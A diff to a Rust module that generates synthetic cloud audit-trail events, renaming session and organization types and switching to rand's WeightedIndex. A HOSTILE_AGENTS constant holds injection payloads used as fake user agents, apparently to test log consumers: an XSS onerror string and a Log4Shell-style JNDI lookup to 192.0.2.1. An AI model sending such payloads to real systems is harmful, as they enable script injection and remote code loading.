@@ -1,51 +1,51 @@
-//! Everyday life: what happens on an ordinary day, as a function of the seed and a running number.
+//! The events of ordinary days: each is a function of the seed and its number.
 //!
-//! Any event can be made alone, from its number, so nothing but a few words of it is kept until somebody asks for its page.
+//! An event is rendered when a page needs it; the trail stores its time and the fields that filters compare.
 
 use std::borrow::Cow;
 use std::sync::Arc;
 
 use chrono::{DateTime, Utc};
+use rand::distr::Distribution;
+use rand::distr::weighted::WeightedIndex;
 use rand::{Rng, SeedableRng};
 use rand_chacha::ChaCha8Rng;
 
+use super::activity::{ActivityProfile, SECOND, people_share};
 use super::catalogue::{
-    By, Call, Fate, ROUTINES, Routine, SERVICES, Service, dates_its_deletion, expand, goes_by_its_parent, info_of,
+    By, Call, Effect, ROUTINES, Routine, SERVICES, Service, dates_its_deletion, expand, goes_by_its_parent, info_of,
     is_named, success_of,
 };
 use super::entities::{Resource, User};
 use super::ids::{access_key, uuid_v4, uuid_v7};
-use super::organisation::Organisation;
+use super::organization::Organization;
 use super::render::{ApiCall, Event, Login, Nanos, SystemEvent, Touched, escaped};
 
-pub(super) const SECOND: Nanos = 1_000_000_000;
-const HOUR: Nanos = 3600 * SECOND;
+/// People and automation work in sessions: one principal, several calls, seconds apart.
+const SESSION: u64 = 8;
 
-/// People and automation work in sittings: one principal, several calls, seconds apart.
-const SITTING: u64 = 8;
-
-/// Every so many events, the next row of the catalogue is due whatever its weight, so that all of it is always present.
+/// Each event of this interval is the next row of the catalogue whatever its weight, so that every row occurs.
 const TURN: u64 = 24;
 
 /// The stream of everyday events.
 #[derive(Debug)]
 pub(super) struct Traffic {
-    organisation: Arc<Organisation>,
-    /// The seed. Each event and each sitting draws from a stream of its own.
+    organization: Arc<Organization>,
+    /// The seed. Each event and each session draws from a stream of its own.
     rng: ChaCha8Rng,
-    /// How many events there are up to `now`.
+    /// The number of events up to `now`.
     count: u64,
-    rhythm: Rhythm,
-    /// How much of the rhythm one sitting takes.
+    activity: ActivityProfile,
+    /// The activity of one session, in the unit of [`ActivityProfile::total`].
     pace: f64,
     rows: Vec<(&'static Service, &'static Call)>,
-    people: Lottery,
-    machines: Lottery,
-    routines: Lottery,
+    people: WeightedIndex<u32>,
+    machines: WeightedIndex<u32>,
+    routines: WeightedIndex<u32>,
 }
 
-/// Who sits down, and when.
-struct Sitting<'a> {
+/// One principal's session.
+struct Session<'a> {
     at: Nanos,
     actor: Actor<'a>,
     /// Time from one call to the next.
@@ -63,7 +63,7 @@ struct Actor<'a> {
     user: Option<&'a User>,
 }
 
-/// User agents that break what trusts them. Anyone can send one.
+/// User agents that break code which trusts them. Any caller can send one.
 const HOSTILE_AGENTS: [&str; 6] = [
     "\"><img src=x onerror=alert(document.domain)>",
     "${jndi:ldap://192.0.2.1/a} $__from ${var}",
@@ -74,41 +74,39 @@ const HOSTILE_AGENTS: [&str; 6] = [
 ];
 
 impl Traffic {
-    pub(super) fn new(organisation: Arc<Organisation>, seed: u64, start: Nanos, now: Nanos, count: u64) -> Self {
-        let rhythm = Rhythm::new(start, now);
+    pub(super) fn new(organization: Arc<Organization>, seed: u64, start: Nanos, now: Nanos, count: u64) -> Self {
+        let activity = ActivityProfile::new(start, now);
         let rows: Vec<_> =
             SERVICES.iter().flat_map(|service| service.calls.iter().map(move |call| (service, call))).collect();
-        let lottery =
-            |excluded: By| Lottery::new(rows.iter().map(|(_, call)| if call.by == excluded { 0 } else { call.weight }));
         Self {
-            organisation,
+            organization,
             rng: ChaCha8Rng::seed_from_u64(seed),
             count,
-            pace: rhythm.total() / real(count.div_ceil(SITTING).max(1)),
-            rhythm,
-            people: lottery(By::Machines),
-            machines: lottery(By::People),
-            routines: Lottery::new(ROUTINES.iter().map(|routine| routine.weight)),
+            pace: activity.total() / real(count.div_ceil(SESSION).max(1)),
+            activity,
+            people: weights(rows.iter().map(|(_, call)| if call.by == By::Machines { 0 } else { call.weight })),
+            machines: weights(rows.iter().map(|(_, call)| if call.by == By::People { 0 } else { call.weight })),
+            routines: weights(ROUTINES.iter().map(|routine| routine.weight)),
             rows,
         }
     }
 
-    /// When the sitting of this event begins: no event of it or of a later sitting is older.
+    /// When the session of this event begins: no event of it or of a later session is older.
     pub(super) fn begins(&self, index: u64) -> Nanos {
-        self.sitting_start(index / SITTING, &mut self.stream(2 * (index / SITTING)))
+        self.session_start(index / SESSION, &mut self.stream(2 * (index / SESSION)))
     }
 
     /// The event with this number. Numbers from `count` on lie in the future of `now`.
     pub(super) fn event(&self, index: u64) -> Event<'_> {
-        let sitting = self.sitting(index / SITTING);
+        let session = self.session(index / SESSION);
         let rng = &mut self.stream(2 * index + 1);
-        let place = (index % SITTING).cast_signed();
-        let place = if sitting.paired { place & !1 } else { place };
-        let at = sitting.at + place * sitting.step;
+        let place = (index % SESSION).cast_signed();
+        let place = if session.paired { place & !1 } else { place };
+        let at = session.at + place * session.step;
         match rng.random_range(0..100) {
-            0..7 if !is_turn(index) => self.login(at, &sitting, rng),
+            0..7 if !is_turn(index) => self.login(at, &session, rng),
             7..10 if !is_turn(index) => self.system(at, rng),
-            _ => self.call(index, at, &sitting, rng),
+            _ => self.call(index, at, &session, rng),
         }
     }
 
@@ -118,23 +116,23 @@ impl Traffic {
         rng
     }
 
-    fn sitting_start(&self, sitting: u64, rng: &mut ChaCha8Rng) -> Nanos {
-        self.rhythm.at((real(sitting) + rng.random::<f64>()) * self.pace)
+    fn session_start(&self, session: u64, rng: &mut ChaCha8Rng) -> Nanos {
+        self.activity.at((real(session) + rng.random::<f64>()) * self.pace)
     }
 
-    fn sitting(&self, number: u64) -> Sitting<'_> {
+    fn session(&self, number: u64) -> Session<'_> {
         let rng = &mut self.stream(2 * number);
-        let mut at = self.sitting_start(number, rng);
-        let actor = if rng.random_bool(people_share(at)) { self.someone(rng) } else { self.machine(rng) };
+        let mut at = self.session_start(number, rng);
+        let actor = if rng.random_bool(people_share(at)) { self.person(rng) } else { self.machine(rng) };
         let step = if actor.user.is_some() {
             rng.random_range(2 * SECOND..20 * SECOND)
         } else {
             rng.random_range(SECOND / 20..2 * SECOND)
         };
-        // In a short span, sittings are short; those of the past end before now.
-        let step = step.min(self.rhythm.span() / 32);
-        if number * SITTING < self.count {
-            at = at.min(self.rhythm.now - step * SITTING.cast_signed() - 1);
+        // In a short span, sessions are short; those of the past end before now.
+        let step = step.min(self.activity.span() / 32);
+        if number * SESSION < self.count {
+            at = at.min(self.activity.now - step * SESSION.cast_signed() - 1);
         }
         let user_agent = if rng.random_bool(0.01) {
             HOSTILE_AGENTS[rng.random_range(0..HOSTILE_AGENTS.len())]
@@ -143,38 +141,38 @@ impl Traffic {
         } else {
             actor.user_agent
         };
-        Sitting { at, actor, step, paired: rng.random_bool(0.06), user_agent }
+        Session { at, actor, step, paired: rng.random_bool(0.06), user_agent }
     }
 
-    fn someone(&self, rng: &mut impl Rng) -> Actor<'_> {
-        let user = &self.organisation.users[rng.random_range(0..self.organisation.users.len())];
+    fn person(&self, rng: &mut impl Rng) -> Actor<'_> {
+        let user = &self.organization.users[rng.random_range(0..self.organization.users.len())];
         Actor { id: &user.id, address: &user.address, user_agent: user.user_agent, user: Some(user) }
     }
 
     fn machine(&self, rng: &mut impl Rng) -> Actor<'_> {
-        let applications = &self.organisation.applications;
-        // Terraform and the deployments do most; the departed one left a few traces.
+        let applications = &self.organization.applications;
+        // Terraform and the deployments are the busiest; the deleted application has a few events.
         let application = match rng.random_range(0..100) {
             0..35 => &applications[0],
             35..60 => &applications[1],
-            60..62 => &self.organisation.departed,
+            60..62 => &self.organization.departed,
             _ => &applications[rng.random_range(0..applications.len())],
         };
         Actor { id: &application.id, address: &application.address, user_agent: application.user_agent, user: None }
     }
 
-    fn call<'a>(&'a self, index: u64, at: Nanos, sitting: &Sitting<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
-        let Sitting { mut actor, mut user_agent, .. } = *sitting;
+    fn call<'a>(&'a self, index: u64, at: Nanos, session: &Session<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
+        let Session { mut actor, mut user_agent, .. } = *session;
         let row = if is_turn(index) {
             usize::try_from(index / TURN).unwrap_or_default() % self.rows.len()
         } else if actor.user.is_some() {
-            self.people.draw(rng)
+            self.people.sample(rng)
         } else {
-            self.machines.draw(rng)
+            self.machines.sample(rng)
         };
         let (service, call) = self.rows[row];
         if call.by == By::People && actor.user.is_none() {
-            actor = self.someone(rng);
+            actor = self.person(rng);
             user_agent = actor.user_agent;
         } else if call.by == By::Machines && actor.user.is_some() {
             actor = self.machine(rng);
@@ -194,7 +192,7 @@ impl Traffic {
             id: event_id(at, service.product, rng),
             locality: first.locality,
             principal: (!service.is_anonymous()).then_some(actor.id),
-            organization: &self.organisation.id,
+            organization: &self.organization.id,
             project: service.has_project(call.on).then_some(first.project_id.as_str()),
             source_ip: if in_cluster { "" } else { actor.address },
             user_agent: (!in_cluster).then_some(user_agent),
@@ -218,26 +216,26 @@ impl Traffic {
         actor: Actor<'a>,
         rng: &mut ChaCha8Rng,
     ) -> (String, Vec<Touched<'a>>, &'a Resource) {
-        let fate = call.fate();
+        let effect = call.effect();
         let mut kinds = call.on.split('+');
         let first = self.pick(kinds.next().unwrap_or_default(), call.method, at, actor, rng);
-        let target = Target::new(first, actor.id, at, fate, rng);
+        let target = Target::new(first, actor.id, at, effect, rng);
         let body = self.fill(call.body, &target, rng);
         let mut resources = Vec::new();
-        // What was refused was not made.
-        if call.lists_resources(product) && (status < 300 || fate != Fate::IsMade) {
+        // A refused creation lists no resource.
+        if call.lists_resources(product) && (status < 300 || effect != Effect::Create) {
             resources.push(self.touched(&target, at, rng));
             for kind in kinds {
-                let other = self.organisation.pick(kind, rng);
-                // All of a batch is made or ends; what else a call touches stays.
-                let fate = if kind == first.kind { fate } else { Fate::Stays };
-                resources.push(self.touched(&Target::new(other, actor.id, at, fate, rng), at, rng));
+                let other = self.organization.pick(kind, rng);
+                // A batch creates or deletes resources of one type; other types stay.
+                let effect = if kind == first.kind { effect } else { Effect::Modify };
+                resources.push(self.touched(&Target::new(other, actor.id, at, effect, rng), at, rng));
             }
         }
         (body, resources, first)
     }
 
-    /// Logging in is about oneself, everything else about anything of its type.
+    /// Log-ins concern the actor; every other call concerns any resource of its type.
     fn pick(&self, kind: &str, method: &str, at: Nanos, actor: Actor<'_>, rng: &mut ChaCha8Rng) -> &Resource {
         let own = match (kind, actor.user) {
             ("iam_user", Some(user)) if matches!(method, "RenewJWT" | "CreatePasswordLogin" | "CheckLoginMFAOTP") => {
@@ -246,12 +244,12 @@ impl Traffic {
             ("account_user", Some(user)) => Some(&user.account_root_user_id),
             _ => None,
         };
-        let own = own.and_then(|id| self.organisation.resources_of(kind).find(|resource| resource.id == *id));
-        let resource = own.unwrap_or_else(|| self.organisation.pick(kind, rng));
-        // The incident alone decides when its server runs.
-        let incident = &self.organisation.incident;
+        let own = own.and_then(|id| self.organization.resources_of(kind).find(|resource| resource.id == *id));
+        let resource = own.unwrap_or_else(|| self.organization.pick(kind, rng));
+        // Only the incident starts and stops its server.
+        let incident = &self.organization.incident;
         if method == "ServerAction" && resource.id == incident.server_id && at >= nanos(incident.started_at) {
-            let other = self.organisation.resources_of(kind).find(|resource| resource.id != incident.server_id);
+            let other = self.organization.resources_of(kind).find(|resource| resource.id != incident.server_id);
             return other.unwrap_or(resource);
         }
         resource
@@ -259,7 +257,7 @@ impl Traffic {
 
     fn touched<'a>(&'a self, target: &Target<'a>, at: Nanos, rng: &mut ChaCha8Rng) -> Touched<'a> {
         let kind = target.resource.kind;
-        let (id, name) = match self.organisation.parent_of(target.resource) {
+        let (id, name) = match self.organization.parent_of(target.resource) {
             Some(cluster) if goes_by_its_parent(kind) => {
                 (Cow::Borrowed(cluster.id.as_str()), Cow::Borrowed(cluster.name.as_str()))
             }
@@ -271,36 +269,36 @@ impl Traffic {
             kind,
             created_at: micros(target.created_at),
             updated_at: micros(touched_at.max(target.created_at)),
-            deleted_at: (target.fate == Fate::Ends && dates_its_deletion(kind)).then_some(touched_at),
+            deleted_at: (target.effect == Effect::Delete && dates_its_deletion(kind)).then_some(touched_at),
             name: is_named(kind).then_some(name),
             info: self.fill(info_of(kind), target, rng),
         }
     }
 
     fn fill(&self, template: &str, target: &Target<'_>, rng: &mut ChaCha8Rng) -> String {
-        let organisation = &*self.organisation;
+        let organization = &*self.organization;
         expand(template, |word, out| match word {
             "id" => out.push_str(&target.id),
             "name" => out.push_str(&escaped(&target.name)),
-            "parent" => out.push_str(organisation.parent_of(target.resource).map_or("", |parent| &parent.id)),
+            "parent" => out.push_str(organization.parent_of(target.resource).map_or("", |parent| &parent.id)),
             "project" => out.push_str(&target.resource.project_id),
-            "organization" => out.push_str(&organisation.id),
-            "network" => out.push_str(&organisation.pick("vpc_private_network", rng).id),
-            "group" => out.push_str(&organisation.pick("instance_security_group", rng).id),
-            "backend" => out.push_str(&organisation.pick("load_balancer_backend", rng).id),
+            "organization" => out.push_str(&organization.id),
+            "network" => out.push_str(&organization.pick("vpc_private_network", rng).id),
+            "group" => out.push_str(&organization.pick("instance_security_group", rng).id),
+            "backend" => out.push_str(&organization.pick("load_balancer_backend", rng).id),
             "self" => out.push_str(target.actor),
-            "user" => out.push_str(&organisation.pick("iam_user", rng).id),
-            "email" => out.push_str(&organisation.pick("iam_user", rng).name),
-            "application" => out.push_str(&organisation.pick("iam_application", rng).id),
+            "user" => out.push_str(&organization.pick("iam_user", rng).id),
+            "email" => out.push_str(&organization.pick("iam_user", rng).name),
+            "application" => out.push_str(&organization.pick("iam_application", rng).id),
             "small" => out.push(char::from(b'1' + rng.random_range(0..9u8))),
             "uuid" => out.push_str(&uuid_v4(rng.random())),
             unknown => debug_assert!(false, "the catalogue has an unknown word: ${unknown}"),
         })
     }
 
-    fn login<'a>(&'a self, at: Nanos, sitting: &Sitting<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
-        let users = &self.organisation.users;
-        let user = sitting.actor.user.unwrap_or_else(|| &users[rng.random_range(0..users.len())]);
+    fn login<'a>(&'a self, at: Nanos, session: &Session<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
+        let users = &self.organization.users;
+        let user = session.actor.user.unwrap_or_else(|| &users[rng.random_range(0..users.len())]);
         let (result, failure_reason) = match rng.random_range(0..100) {
             0..4 => ("failure", Some("invalid_password")),
             4..6 if user.mfa => ("failure", Some("invalid_mfa")),
@@ -309,10 +307,10 @@ impl Traffic {
         Event::Login(Login {
             at,
             id: event_id(at, "iam", rng),
-            organization: &self.organisation.id,
+            organization: &self.organization.id,
             source_ip: &user.address,
             user_agent: rng.random_bool(0.98).then_some(user.user_agent),
-            resources: vec![person(&self.organisation, user)],
+            resources: vec![user_resource(&self.organization, user)],
             result,
             failure_reason: failure_reason.or((at % 3 == 0).then_some("unknown_failure_reason")),
             country: Some(if rng.random_bool(0.02) { "unknown_country_code" } else { user.country }),
@@ -323,14 +321,14 @@ impl Traffic {
     }
 
     fn system(&self, at: Nanos, rng: &mut ChaCha8Rng) -> Event<'_> {
-        let routine: &'static Routine = &ROUTINES[self.routines.draw(rng)];
-        let resource = self.organisation.pick(routine.on, rng);
-        let target = Target::new(resource, "", at, Fate::Stays, rng);
+        let routine: &'static Routine = &ROUTINES[self.routines.sample(rng)];
+        let resource = self.organization.pick(routine.on, rng);
+        let target = Target::new(resource, "", at, Effect::Modify, rng);
         Event::System(SystemEvent {
             at,
             id: event_id(at, routine.product, rng),
             locality: resource.locality,
-            organization: &self.organisation.id,
+            organization: &self.organization.id,
             project: (!matches!(routine.product, "iam" | "audit-trail")).then_some(resource.project_id.as_str()),
             product: routine.product,
             source: routine.source,
@@ -341,9 +339,9 @@ impl Traffic {
     }
 }
 
-/// A user as the resource of their own log-in.
-pub(super) fn person<'a>(organisation: &'a Organisation, user: &'a User) -> Touched<'a> {
-    let resource = organisation.resources_of("iam_user").find(|resource| resource.id == user.id);
+/// A user as the resource of the user's own log-in.
+pub(super) fn user_resource<'a>(organization: &'a Organization, user: &'a User) -> Touched<'a> {
+    let resource = organization.resources_of("iam_user").find(|resource| resource.id == user.id);
     let created_at = resource.and_then(|resource| resource.created_at.timestamp_nanos_opt()).map_or(0, micros);
     Touched {
         id: Cow::Borrowed(&user.id),
@@ -369,27 +367,27 @@ pub(super) fn nanos(at: DateTime<Utc>) -> Nanos {
     at.timestamp_nanos_opt().unwrap_or_default()
 }
 
-/// A resource about to be touched.
+/// A resource that a call concerns.
 struct Target<'a> {
     resource: &'a Resource,
-    /// Who touches it.
+    /// The id of the caller.
     actor: &'a str,
     id: Cow<'a, str>,
     name: Cow<'a, str>,
     created_at: Nanos,
-    fate: Fate,
+    effect: Effect,
 }
 
 impl<'a> Target<'a> {
-    /// What is made or ends is short-lived, with an id of its own; the rest is always there.
-    fn new(resource: &'a Resource, actor: &'a str, at: Nanos, fate: Fate, rng: &mut impl Rng) -> Self {
-        let age = match fate {
-            Fate::IsMade => rng.random_range(2_000..40_000) * 1000,
-            Fate::Ends => rng.random_range(SECOND * 60..SECOND * 86_400),
-            Fate::Stays => {
+    /// Created and deleted resources are short-lived and have ids of their own; the others always exist.
+    fn new(resource: &'a Resource, actor: &'a str, at: Nanos, effect: Effect, rng: &mut impl Rng) -> Self {
+        let age = match effect {
+            Effect::Create => rng.random_range(2_000..40_000) * 1000,
+            Effect::Delete => rng.random_range(SECOND * 60..SECOND * 86_400),
+            Effect::Modify => {
                 let created_at = nanos(resource.created_at);
                 let (id, name) = (Cow::Borrowed(resource.id.as_str()), Cow::Borrowed(resource.name.as_str()));
-                return Self { resource, actor, id, name, created_at, fate };
+                return Self { resource, actor, id, name, created_at, effect };
             }
         };
         let id = if resource.kind == "iam_api_key" { access_key(rng) } else { uuid_v4(rng.random()) };
@@ -398,8 +396,12 @@ impl<'a> Target<'a> {
             "ipam_ip" | "load_balancer_ip" | "serverless_containers_domain" => resource.name.clone(),
             _ => format!("{}-{:04x}", resource.name, rng.random::<u16>()),
         };
-        Self { resource, actor, id: id.into(), name: name.into(), created_at: at - age, fate }
+        Self { resource, actor, id: id.into(), name: name.into(), created_at: at - age, effect }
     }
+}
+
+fn weights(weights: impl Iterator<Item = u32>) -> WeightedIndex<u32> {
+    WeightedIndex::new(weights).expect("the catalogue has rows with a weight")
 }
 
 fn is_turn(index: u64) -> bool {
@@ -415,141 +417,39 @@ fn real(count: u64) -> f64 {
     count as f64
 }
 
-/// Draws indices by weight.
-#[derive(Debug)]
-struct Lottery {
-    cumulative: Vec<u32>,
-}
-
-impl Lottery {
-    fn new(weights: impl Iterator<Item = u32>) -> Self {
-        let cumulative = weights.scan(0, |sum, weight| {
-            *sum += weight;
-            Some(*sum)
-        });
-        Self { cumulative: cumulative.collect() }
-    }
-
-    fn draw(&self, rng: &mut impl Rng) -> usize {
-        let ticket = rng.random_range(0..self.cumulative.last().copied().unwrap_or(1));
-        self.cumulative.partition_point(|&sum| sum <= ticket)
-    }
-}
-
-/// Day and night: how much happens up to a moment, and the moment by which so much has happened.
-#[derive(Debug)]
-struct Rhythm {
-    start: Nanos,
-    now: Nanos,
-    /// What has happened by the end of each hour since `start`.
-    cumulative: Vec<f64>,
-}
-
-impl Rhythm {
-    fn new(start: Nanos, now: Nanos) -> Self {
-        let begun = (now - start + HOUR - 1) / HOUR;
-        let cumulative = (0..begun).scan(0.0, |sum, hour| {
-            *sum += liveliness(start + hour * HOUR);
-            Some(*sum)
-        });
-        Self { start, now, cumulative: cumulative.collect() }
-    }
-
-    fn span(&self) -> Nanos {
-        self.now - self.start
-    }
-
-    /// How much has happened at `now`, within its hour too.
-    fn total(&self) -> f64 {
-        let Some(last) = self.cumulative.last() else { return 1.0 };
-        let begun = self.start + (hours(self.cumulative.len()) - 1) * HOUR;
-        last - liveliness(begun) * (1.0 - share_of_hour(self.now - begun))
-    }
-
-    fn at(&self, happened: f64) -> Nanos {
-        let mut hour = self.cumulative.partition_point(|&sum| sum <= happened);
-        let mut before = if hour == 0 { 0.0 } else { self.cumulative[hour - 1] };
-        // Past the table: the future, hour by hour.
-        while hour >= self.cumulative.len() && before + liveliness(self.start + hours(hour) * HOUR) <= happened {
-            before += liveliness(self.start + hours(hour) * HOUR);
-            hour += 1;
-        }
-        let begun = self.start + hours(hour) * HOUR;
-        begun + part_of_hour((happened - before) / liveliness(begun))
-    }
-}
-
-fn hours(count: usize) -> Nanos {
-    count.try_into().unwrap_or(Nanos::MAX)
-}
-
-#[expect(clippy::cast_precision_loss, reason = "an hour in nanoseconds is below 2^52")]
-fn share_of_hour(time: Nanos) -> f64 {
-    time as f64 / HOUR as f64
-}
-
-#[expect(clippy::cast_precision_loss, clippy::cast_possible_truncation, reason = "within an hour of nanoseconds")]
-fn part_of_hour(share: f64) -> Nanos {
-    (share.clamp(0.0, 1.0) * HOUR as f64) as Nanos
-}
-
-/// Hour of the day and day of the week, 0 being Thursday as on 1970-01-01. UTC.
-fn calendar(at: Nanos) -> (i64, i64) {
-    (at.div_euclid(HOUR).rem_euclid(24), at.div_euclid(24 * HOUR).rem_euclid(7))
-}
-
-/// How much happens in an hour, compared with others.
-fn liveliness(at: Nanos) -> f64 {
-    let (hour, day) = calendar(at);
-    let weekend = matches!(day, 2 | 3);
-    match hour {
-        _ if weekend => 0.5,
-        8..12 | 13..17 => 2.0,
-        12 | 17 => 1.4,
-        // Early and late, and the nightly backups at two.
-        6..8 | 18..20 | 2 => 0.9,
-        _ => 0.4,
-    }
-}
-
-/// How much of it is done by people.
-fn people_share(at: Nanos) -> f64 {
-    let (hour, day) = calendar(at);
-    if matches!(hour, 7..19) && !matches!(day, 2 | 3) { 0.6 } else { 0.15 }
-}
-
 #[cfg(test)]
 mod tests {
     use chrono::TimeDelta;
 
-    use super::super::organisation::ORGANIZATION_ID;
+    use super::super::activity::{HOUR, calendar};
+    use super::super::organization::ORGANIZATION_ID;
     use super::*;
 
     const NOW: Nanos = 1_773_327_845_678_901_234;
 
     fn traffic(count: u64, span: Nanos) -> Traffic {
-        let organisation =
-            Organisation::new(ORGANIZATION_ID, DateTime::from_timestamp_nanos(NOW), TimeDelta::nanoseconds(span));
-        Traffic::new(Arc::new(organisation), 7, NOW - span, NOW, count)
+        let organization =
+            Organization::new(ORGANIZATION_ID, DateTime::from_timestamp_nanos(NOW), TimeDelta::nanoseconds(span));
+        Traffic::new(Arc::new(organization), 7, NOW - span, NOW, count)
     }
 
     #[test]
-    fn the_past_ends_now_and_the_future_begins() {
+    fn past_events_end_before_now_and_future_events_begin_at_now() {
         for (count, span) in [(8_000, 168 * HOUR), (801, HOUR / 2), (1, HOUR), (10_000, 30 * HOUR + 1)] {
             let traffic = traffic(count, span);
             let past: Vec<_> = (0..count).map(|number| traffic.event(number).at()).collect();
             assert!(past.iter().all(|&at| at < NOW && at >= NOW - span - HOUR), "{count} in {span}");
-            let sitting = count.next_multiple_of(SITTING);
-            let future: Vec<_> = (sitting..sitting + 800).map(|number| traffic.event(number).at()).collect();
+            let session = count.next_multiple_of(SESSION);
+            let future: Vec<_> = (session..session + 800).map(|number| traffic.event(number).at()).collect();
             assert!(future.iter().all(|&at| at >= NOW), "{count} in {span}");
             let begins: Vec<_> = (0..count + 800).map(|number| traffic.begins(number)).collect();
             assert!(begins.is_sorted());
-            assert!((sitting..).zip(&future).all(|(number, &at)| at >= traffic.begins(number) - 1000));
+            assert!((session..).zip(&future).all(|(number, &at)| at >= traffic.begins(number) - 1000));
         }
     }
 
     #[test]
-    fn days_are_livelier_than_nights_and_the_mix_is_as_promised() {
+    fn days_are_busier_than_nights_and_kinds_have_their_shares() {
         let traffic = traffic(12_000, 168 * HOUR);
         let (mut day, mut night) = (0, 0);
         let mut kinds = [0; 3];
@@ -571,7 +471,7 @@ mod tests {
     }
 
     #[test]
-    fn ids_carry_their_time() {
+    fn event_ids_hold_their_time() {
         let id = event_id(NOW, "iam", &mut ChaCha8Rng::seed_from_u64(1));
         let milliseconds = i64::from_str_radix(&id.replace('-', "")[..12], 16).expect("hexadecimal");
         assert!((NOW / 1_000_000 - 6..=NOW / 1_000_000).contains(&milliseconds) && id.as_bytes()[14] == b'7');
